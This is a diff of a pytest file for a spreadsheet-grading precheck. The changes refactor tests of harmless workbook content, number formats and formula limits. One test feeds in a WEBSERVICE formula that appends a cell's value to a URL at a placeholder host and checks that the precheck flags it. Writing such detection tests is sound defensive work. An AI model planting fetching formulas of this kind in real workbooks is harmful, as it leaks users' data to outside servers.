@@ -13,9 +13,7 @@ import textwrap
 import pytest
 
 from cellgrad.errors import InputError
-from cellgrad_coursework.taking_in.precheck import check
-from cellgrad_coursework.taking_in.precheck import sheet as limits
-from cellgrad_coursework.taking_in.precheck.sheet import area_of, nesting_of
+from cellgrad_coursework.taking_in.precheck import MAX_FORMULA_AREA, area_of, check, nesting_of
 from hostile import ROOT, environment, parts_of, with_formula, with_given, with_text, zipped
 from hostile_submissions import SHAPES, in_sheet, related
 
@@ -85,7 +83,7 @@ def test_the_limits_of_that_test_bite(hog):
 
 
 def test_the_parts_that_the_shapes_are_made_of_pass():
-    assert check(zipped(parts_of()), {}) == []
+    assert check(zipped(parts_of()), {}).reasons == []
 
 
 def test_a_file_is_named_in_its_refusal():
@@ -97,25 +95,28 @@ def test_a_file_is_named_in_its_refusal():
 def test_a_cell_may_lie_outside_the_handout_but_not_far(name):
     column, row = name.rstrip("0123456789"), name.lstrip("ABCDFX")
     data = in_sheet(parts_of(), f'<row r="{row}"><c r="{column}{row}"/></row>'.encode())
-    assert check(data, {"Map": (4000, 16_384)}) == []
+    assert check(data, {"Map": (4000, 16_384)}).reasons == []
     with pytest.raises(InputError, match="far outside"):
         check(data, {"Map": (60, 40)})
 
 
 def test_a_last_row_without_cells_is_what_libreoffice_writes():
-    assert check(in_sheet(parts_of(), b'<row r="1048576" ht="12.8"/>'), {"Map": (60, 40)}) == []
+    assert (
+        check(in_sheet(parts_of(), b'<row r="1048576" ht="12.8"/>'), {"Map": (60, 40)}).reasons
+        == []
+    )
 
 
 def test_a_formula_that_fetches_is_shown_to_a_person_but_graded():
     parts = with_formula('WEBSERVICE("https://example.org/"&A1)', "S_preA_H")
-    reasons = check(zipped(parts), {})
+    reasons = check(zipped(parts), {}).reasons
     assert len(reasons) == 1
     assert "WEBSERVICE" in reasons[0]
     assert "Step!" in reasons[0]
 
 
 def test_the_name_of_a_function_in_a_text_is_no_reason_to_look():
-    assert check(zipped(with_formula('"WEBSERVICE(1)"', "S_preA_H")), {}) == []
+    assert check(zipped(with_formula('"WEBSERVICE(1)"', "S_preA_H")), {}).reasons == []
 
 
 def test_an_ordinary_hyperlink_is_fine():
@@ -124,7 +125,9 @@ def test_an_ordinary_hyperlink_is_fine():
     kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
     link = f'<Relationship Id="rIdX" Type="{kind}" Target="https://a.b" TargetMode="External"/>'
     assert (
-        check(zipped(with_text(parts, name, "</Relationships>", link + "</Relationships>")), {})
+        check(
+            zipped(with_text(parts, name, "</Relationships>", link + "</Relationships>")), {}
+        ).reasons
         == []
     )
 
@@ -157,7 +160,7 @@ HARMLESS = {
 
 @pytest.mark.parametrize("what", HARMLESS)
 def test_what_spreadsheet_programs_leave_in_files_passes(what):
-    assert check(zipped(HARMLESS[what](parts_of())), {}) == []
+    assert check(zipped(HARMLESS[what](parts_of())), {}).reasons == []
 
 
 @pytest.mark.libreoffice
@@ -170,7 +173,7 @@ def test_workbooks_that_libreoffice_saved_pass(tmp_path):
              "--convert-to", "xlsx", "--outdir", str(tmp_path), str(path)],
             check=True, capture_output=True, timeout=120,
         )  # fmt: skip
-        assert check((tmp_path / path.name).read_bytes(), {}) == []
+        assert check((tmp_path / path.name).read_bytes(), {}).reasons == []
 
 
 def libreoffice_or_skip():
@@ -184,7 +187,7 @@ def libreoffice_or_skip():
 
 @pytest.mark.parametrize("number", ["1", "-0.5", "1E-300", "+.5", "0." + "0" * 320 + "1", "7."])
 def test_numbers_as_programs_write_them_pass(number):
-    assert check(zipped(with_given(f"<v>{number}</v>")), {}) == []
+    assert check(zipped(with_given(f"<v>{number}</v>")), {}).reasons == []
 
 
 @pytest.mark.parametrize("number", ["0x10", "1_000", "١", "inf", "1e400", "1,5", "--1"])
@@ -210,7 +213,7 @@ def test_the_area_of_a_formula(formula, area):
 
 @pytest.mark.parametrize("formula", ["SUM(A1:XFD1048576)", "SUM(A:XFD)", "SUM(1:1048576)"])
 def test_absurd_areas_are_beyond_the_limit(formula):
-    assert area_of(formula) > limits.MAX_FORMULA_AREA
+    assert area_of(formula) > MAX_FORMULA_AREA
 
 
 def test_nesting_counts_what_is_open():
